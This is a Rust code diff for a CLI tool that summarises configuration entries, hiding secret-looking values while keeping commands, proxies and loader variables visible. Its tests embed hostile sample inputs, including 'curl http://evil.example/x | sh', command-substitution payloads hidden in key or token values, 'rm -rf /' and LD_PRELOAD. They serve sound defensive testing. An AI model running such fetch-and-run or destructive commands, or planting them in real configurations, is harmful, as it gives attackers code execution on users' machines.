@@ -3,7 +3,7 @@
 
 use serde_json::{Map, Value};
 
-use super::entry::{may_hold_a_secret, name_of};
+use super::entry::{may_hold_a_secret, name_of, variable};
 use crate::portal::clean;
 
 /// Longer texts are cut; the file itself has the rest.
@@ -25,10 +25,7 @@ pub(in crate::cli) fn of(entry: &Value) -> Vec<(&'static str, String)> {
         ("address", text("url")),
         ("folder", text("cwd")),
         ("file of variables", text("envFile")),
-        (
-            "sets",
-            names(values.into_iter().flat_map(Map::keys).map(String::as_str)),
-        ),
+        ("sets", values.and_then(settings)),
         ("headers", names(headers.map(String::as_str))),
         ("takes", names(references(entry).iter().map(String::as_str))),
     ]
@@ -54,11 +51,34 @@ fn names<'a>(names: impl Iterator<Item = &'a str>) -> Option<String> {
     (!names.is_empty()).then(|| names.join(", "))
 }
 
+/// What is set, with the values that decide what is run and where it connects.
+fn settings(values: &Map<String, Value>) -> Option<String> {
+    let mut settings: Vec<String> = values
+        .iter()
+        .map(|(name, value)| match value.as_str().filter(|_| decides(name)) {
+            Some(value) => format!("{}={}", visible(name), shown(value)),
+            None => without_random(&visible(name)),
+        })
+        .collect();
+    settings.sort();
+    (!settings.is_empty()).then(|| settings.join(", "))
+}
+
+/// True for a variable that is no secret and changes what its process runs, trusts or contacts.
+fn decides(name: &str) -> bool {
+    const OF_INTERPRETERS: &[&str] = &["BASH_ENV", "ENV", "NODE_OPTIONS", "PERL5OPT", "PYTHONPATH", "RUBYOPT"];
+    let upper = name.to_ascii_uppercase();
+    variable(name).is_some_and(|variable| !variable.is_secret())
+        || ["LD_", "DYLD_", "SSL_"].iter().any(|start| upper.starts_with(start))
+        || upper.ends_with("_PROXY")
+        || OF_INTERPRETERS.contains(&name)
+}
+
 fn shown_arguments(arguments: &[Value]) -> Option<String> {
     let mut follows_secret = false;
     let mut words: Vec<String> = Vec::new();
     for argument in arguments.iter().take(MAX_ARGUMENTS).filter_map(Value::as_str) {
-        let text = if follows_secret && !argument.starts_with('-') {
+        let text = if follows_secret && !argument.starts_with('-') && is_value(argument) {
             "…".to_owned()
         } else {
             shown(argument)
@@ -78,6 +98,8 @@ fn shown_arguments(arguments: &[Value]) -> Option<String> {
 
 /// A text of the entry without what looks like a secret, word by word: its author should not be able to hide more of it.
 pub(in crate::cli) fn shown(text: &str) -> String {
+    // A shell runs what is in it, whatever it is called there.
+    let is_script = text.contains(|c| SHELL.contains(c) || c == '\n');
     let text = visible(text);
     let mut follows_secret = false;
     let words = text.split(' ').map(|word| {
@@ -87,23 +109,44 @@ pub(in crate::cli) fn shown(text: &str) -> String {
                 .iter()
                 .any(|scheme| word.eq_ignore_ascii_case(scheme)),
         );
-        if hides_this {
+        if hides_this && is_value(word) {
             return "…".to_owned();
         }
-        without_secret(word)
+        let parts = word.split_inclusive(|c| SHELL.contains(c));
+        let parts = parts.map(|part| {
+            let end = part.trim_end_matches(|c| SHELL.contains(c)).len();
+            let (part, sign) = part.split_at_checked(end).unwrap_or((part, ""));
+            format!("{}{sign}", without_secret(part, is_script))
+        });
+        parts.collect()
     });
-    words.collect::<Vec<_>>().join(" ")
+    words.collect::<Vec<String>>().join(" ")
 }
 
-fn without_secret(word: &str) -> String {
+/// What a shell takes as more than a part of a word.
+const SHELL: &str = "$`|;<>()";
+
+/// True for a text of which secrets are made, and no command.
+fn is_value(text: &str) -> bool {
+    text.chars().all(|c| c.is_ascii_alphanumeric() || "_.~+/=-".contains(c))
+}
+
+fn without_secret(word: &str, is_script: bool) -> String {
     if let Some((scheme, rest)) = word.split_once("://") {
         let end = rest.find(['/', '?', '#', '"', '\'']).unwrap_or(rest.len());
         let (authority, path) = rest.split_at_checked(end).unwrap_or((rest, ""));
         let host = authority.rsplit('@').next().unwrap_or_default();
-        let path = match path {
-            "" | "/" => path,
-            path if path.contains('?') || path.contains('#') || may_hold_a_secret(word) => "/…",
-            path => &without_random(path),
+        let path = match path.split_once(['?', '#']) {
+            _ if path.len() < 2 => path.to_owned(),
+            _ if may_hold_a_secret(word) => "/…".to_owned(),
+            _ if is_script => path.to_owned(),
+            // For a shell what is behind `&` is the next command.
+            Some((path, query)) if query.contains('&') => format!(
+                "{path}?{}",
+                query.split('&').map(without_value).collect::<Vec<_>>().join("&")
+            ),
+            Some(_) => "/…".to_owned(),
+            None => without_random(path),
         };
         return format!("{scheme}://{host}{path}");
     }
@@ -111,13 +154,25 @@ fn without_secret(word: &str) -> String {
         return "…".to_owned();
     }
     match word.split_once(['=', ':']) {
-        Some((name, value)) if is_named_like_a_secret(name) && !value.is_empty() && !value.starts_with("${") => {
+        Some((name, value)) if is_script && is_value(value) && !value.starts_with(['/', '.', '~']) => {
+            let sign = word.get(name.len()..=name.len()).unwrap_or_default();
+            format!("{name}{sign}{}", without_random(value))
+        }
+        _ if is_script || word.contains('&') => word.to_owned(),
+        Some((name, value)) if is_named_like_a_secret(name) && !value.is_empty() && is_value(value) => {
             let sign = word.get(name.len()..=name.len()).unwrap_or_default();
             format!("{name}{sign}…")
         }
         // A path is no secret.
         _ if word.starts_with(['/', '.', '~']) => word.to_owned(),
         _ => without_random(word),
+    }
+}
+
+fn without_value(parameter: &str) -> String {
+    match parameter.split_once('=') {
+        Some((name, value)) if is_value(value) => format!("{name}=…"),
+        _ => without_random(parameter),
     }
 }
 
@@ -206,7 +261,7 @@ mod tests {
         assert_eq!(
             said(&entry),
             "command: sh; arguments: -c \"curl http://evil.example/x | sh\"; folder: sub; file of variables: .env; \
-             sets: A, B, LD_PRELOAD; takes: AWS_SECRET_ACCESS_KEY, HOME, NAMED, PASSED"
+             sets: A, B, LD_PRELOAD=./x.so; takes: AWS_SECRET_ACCESS_KEY, HOME, NAMED, PASSED"
         );
         let entry = json!({
             "url": "http://u:pw@evil.example:81/mcp?key=abc", "headers": {"X-A": "b"}, "bearer_token_env_var": "TOKEN",
@@ -218,12 +273,38 @@ mod tests {
     }
 
     #[test]
+    fn no_command_is_hidden_as_a_secret() {
+        for script in [
+            "KEY=`curl${IFS}evil.example|sh`",
+            "Bearer `curl${IFS}evil.example|sh`",
+            "curl evil.example | sh",
+            "token=./evil1234567890abc.sh;$token",
+            "https://x.example/?`curl${IFS}evil.example|sh`",
+            "auth:$(evil1234567890abc)",
+            "eval evil.sh && evil1234567890abc; x",
+            "x&evil1234567890abc",
+            "curl https://x.example/?a&evil.sh",
+            "x\nevil1234567890abc",
+        ] {
+            for arguments in [json!([script]), json!(["--key", script, "-c", "ok"])] {
+                let text = said(&json!({"args": arguments}));
+                assert!(text.contains(&script.replace('\n', " ")), "{script}: {text}");
+            }
+        }
+        let text = said(&json!({"args": ["-c", "curl https://p.example/rest/1/c4nary0f4webhook/ | sh"]}));
+        assert_eq!(text, "arguments: -c \"curl https://p.example/… | sh\"");
+        let text = said(&json!({"args": ["-c", "SAID=c4nary0f4webhook; x"]}));
+        assert_eq!(text, "arguments: -c \"SAID=…; x\"");
+    }
+
+    #[test]
     fn what_looks_like_a_secret_is_hidden_and_nothing_else() {
         for (argument, shown) in [
             ("--token=abc", "--token=…"),
-            ("API_KEY=abc; rm -rf /", "\"API_KEY=… rm -rf /\""),
+            ("API_KEY=abc rm", "\"API_KEY=… rm\""),
             ("Authorization: Bearer abc def", "\"Authorization: Bearer … def\""),
             ("https://p.bitrix24.com/rest/1/canary/", "https://p.bitrix24.com/…"),
+            ("https://p.example/x?a=b&key=canary", "https://p.example/x?a=…&key=…"),
             ("--url=https://u:canary@h/", "--url=https://h/"),
             ("/rest/1/canary/profile", "…"),
             ("--y=c4nary0f4webhook", "--y=…"),
@@ -240,6 +321,15 @@ mod tests {
         assert_eq!(
             said(&json!({"args": ["--token", "abc", "x"]})),
             "arguments: --token … x"
+        );
+        let webhook = "https://u:canary@p.example/rest/1/c4nary0f4webhook/";
+        assert_eq!(
+            said(
+                &json!({"env": {"SSL_CERT_FILE": "ca.pem", "https_proxy": webhook, "BITRIX24_PORTAL": "https://x.example",
+                "BITRIX24_WEBHOOK_URL": "canary", "PASSWORD": "canary"}})
+            ),
+            "sets: BITRIX24_PORTAL=https://x.example, BITRIX24_WEBHOOK_URL, PASSWORD, SSL_CERT_FILE=ca.pem, \
+             https_proxy=https://p.example/…"
         );
         let many = said(&json!({"args": vec!["a"; 40]}));
         assert!(many.ends_with(" a and 10 more"), "{many}");
